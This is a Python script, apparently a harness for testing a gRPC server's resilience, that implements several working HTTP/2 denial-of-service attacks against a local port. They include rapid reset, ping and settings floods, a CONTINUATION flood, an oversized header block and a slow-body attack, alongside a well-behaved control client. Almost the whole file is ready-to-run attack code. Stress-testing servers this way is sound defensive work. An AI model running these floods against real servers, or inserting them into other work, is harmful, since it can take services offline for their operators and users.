"""One attacker: sends frames that a well-behaved client would not, until its time is over.

Usage: attack.py NAME PORT SECONDS. Connects anew whenever the server closes the connection. Prints how many connections it
made, how many of them the server closed, and how many units (frames, streams, calls) it sent.
"""

import socket
import struct
import sys
import time

import hpack
from hyperframe import frame as frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = "/grpc.testing.TestService/EmptyCall"
BATCH = 64


class Attacker:
    """A connection that is made again when it breaks."""

    def __init__(self, port, seconds):
        self._port = port
        self._end = time.monotonic() + seconds
        self._wire = None
        self.connections = self.closed = self.sent = 0

    @property
    def has_time(self):
        return time.monotonic() < self._end

    def connect(self):
        self._wire = socket.create_connection(("127.0.0.1", self._port), timeout=5)
        # A window without end: replies are thrown away, and must not stop for want of room.
        window = frames.WindowUpdateFrame(0, window_increment=(1 << 31) - 1 - 65535)
        self.connections += 1
        # A server that has had enough of this address closes its connections as they come.
        self.send(PREFACE + frames.SettingsFrame().serialize() + window.serialize(), 0)

    def send(self, data, units):
        """Sends; False when the server has closed the connection or does not read any more."""
        try:
            self._wire.sendall(data)
            self.sent += units
            return True
        except TimeoutError:
            return False
        except OSError:
            self.closed += 1
            return False

    def drain(self):
        """Takes what the server sent; False when it has closed the connection."""
        try:
            self._wire.setblocking(False)
            while True:
                if not self._wire.recv(1 << 16):
                    self.closed += 1
                    return False
        except BlockingIOError:
            return True
        except OSError:
            self.closed += 1
            return False
        finally:
            self._wire.settimeout(5)

    def close(self):
        self._wire.close()


def headers(encoder, extra=()):
    return encoder.encode(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", PATH),
            (":authority", "127.0.0.1"),
            ("te", "trailers"),
            ("content-type", "application/grpc"),
            *extra,
        ]
    )


def rapid_reset(attacker):
    while attacker.has_time:
        attacker.connect()
        encoder, stream, alive = hpack.Encoder(), 1, True
        while alive and attacker.has_time:
            batch = b""
            for _ in range(BATCH):
                batch += frames.HeadersFrame(stream, headers(encoder), flags=["END_HEADERS"]).serialize()
                batch += frames.RstStreamFrame(stream, error_code=8).serialize()
                stream += 2
            alive = attacker.send(batch, BATCH) and attacker.drain()
        attacker.close()


def flood(attacker, frame, read):
    data = frame.serialize() * BATCH
    while attacker.has_time:
        attacker.connect()
        alive = True
        while alive and attacker.has_time:
            alive = attacker.send(data, BATCH) and (not read or attacker.drain())
        attacker.close()


def ping_flood(attacker):
    flood(attacker, frames.PingFrame(0, opaque_data=b"12345678"), read=False)


def settings_flood(attacker):
    flood(attacker, frames.SettingsFrame(0, settings={4: 65535}), read=False)


def continuation_flood(attacker):
    while attacker.has_time:
        attacker.connect()
        alive = attacker.send(frames.HeadersFrame(1, headers(hpack.Encoder())).serialize(), 1)
        # Literal headers without indexing, each with a name and a value of its own.
        block = b"".join(b"\x00\x05x-%03d\x7f\x00" % i + b"v" * 127 for i in range(100))
        while alive and attacker.has_time:
            alive = attacker.send(frames.ContinuationFrame(1, block).serialize(), 1) and attacker.drain()
        attacker.close()


def big_header(attacker):
    while attacker.has_time:
        attacker.connect()
        encoder = hpack.Encoder()
        block = headers(encoder, [("x-big", "v" * 63 * 1024)])
        data = frames.HeadersFrame(1, block[:16000]).serialize()
        rest = [block[i : i + 16000] for i in range(16000, len(block), 16000)]
        for i, part in enumerate(rest):
            data += frames.ContinuationFrame(1, part, flags=["END_HEADERS"] if i == len(rest) - 1 else []).serialize()
        alive = attacker.send(data, 1)
        while alive and attacker.has_time:
            time.sleep(0.01)
            alive = attacker.drain()
        attacker.close()


def slow_body(attacker):
    """A hundred calls whose messages come byte by byte."""
    while attacker.has_time:
        attacker.connect()
        encoder, streams = hpack.Encoder(), range(1, 200, 2)
        data = b"".join(
            frames.HeadersFrame(stream, headers(encoder), flags=["END_HEADERS"]).serialize()
            + frames.DataFrame(stream, struct.pack(">BI", 0, 4_000_000)).serialize()
            for stream in streams
        )
        alive = attacker.send(data, len(streams))
        while alive and attacker.has_time:
            alive = attacker.send(b"".join(frames.DataFrame(stream, b"x").serialize() for stream in streams), len(streams))
            alive = alive and attacker.drain()
            time.sleep(0.5)
        attacker.close()


def control(attacker):
    """Well-formed calls as fast as this process can send them: what any busy client does."""
    attacker.connect()
    encoder, stream = hpack.Encoder(), 1
    while attacker.has_time:
        batch = b""
        for _ in range(BATCH):
            batch += frames.HeadersFrame(stream, headers(encoder), flags=["END_HEADERS"]).serialize()
            batch += frames.DataFrame(stream, b"\0\0\0\0\0", flags=["END_STREAM"]).serialize()
            stream += 2
        ended = 0
        if not attacker.send(batch, BATCH):
            return
        # A batch is under the server's limit of streams; the next one waits until this one is answered.
        buffer = b""
        while ended < BATCH and attacker.has_time:
            data = attacker._wire.recv(1 << 16)
            if not data:
                return
            buffer += data
            while len(buffer) >= 9:
                parsed, length = frames.Frame.parse_frame_header(memoryview(buffer[:9]))
                if len(buffer) < 9 + length:
                    break
                ended += "END_STREAM" in parsed.flags
                buffer = buffer[9 + length :]
    attacker.close()


ATTACKS = {
    f.__name__: f
    for f in (rapid_reset, ping_flood, settings_flood, continuation_flood, big_header, slow_body, control)
}

if __name__ == "__main__":
    attacker = Attacker(int(sys.argv[2]), float(sys.argv[3]))
    ATTACKS[sys.argv[1]](attacker)
    print(attacker.connections, attacker.closed, attacker.sent)
